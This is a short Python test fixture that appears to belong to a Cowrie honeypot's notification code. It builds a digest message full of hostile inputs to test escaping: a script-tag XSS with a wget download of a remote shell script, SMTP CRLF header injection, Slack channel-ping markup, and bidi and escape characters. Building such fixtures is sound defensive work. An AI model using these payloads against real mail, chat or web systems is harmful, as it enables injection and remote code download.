"""A message such as attackers would like to have sent."""

from cowrie_assets.notifications.message import Message, Section, quoted, title

MARKUP = "<!channel> <https://evil.example|click> *b* `code` ```x @here &"
HOSTILE = (
    MARKUP,
    "<script>alert(1)</script> wget http://1.2.3.4/x.sh",
    "a\r\nBcc: victim@example.org\r\n\r\n.\r\nQUIT",
    "\x1b[2J\u202egnp.exe\u2028next\x00nul\ud800",
    "A" * 60_000,
    "",
)


def hostile_message(key: str = "0123abcd") -> Message:
    return Message(
        event="digest",
        key=key,
        at_us=1_788_242_400_000_000,
        title=title(f"Cowrie {HOSTILE[2]} é\u202e"),
        sections=(Section("Top commands", tuple(quoted(text) for text in HOSTILE)), Section("Grüße", ("żółć 日本",))),
        payload={"event": "digest", "commands": list(HOSTILE)},
    )
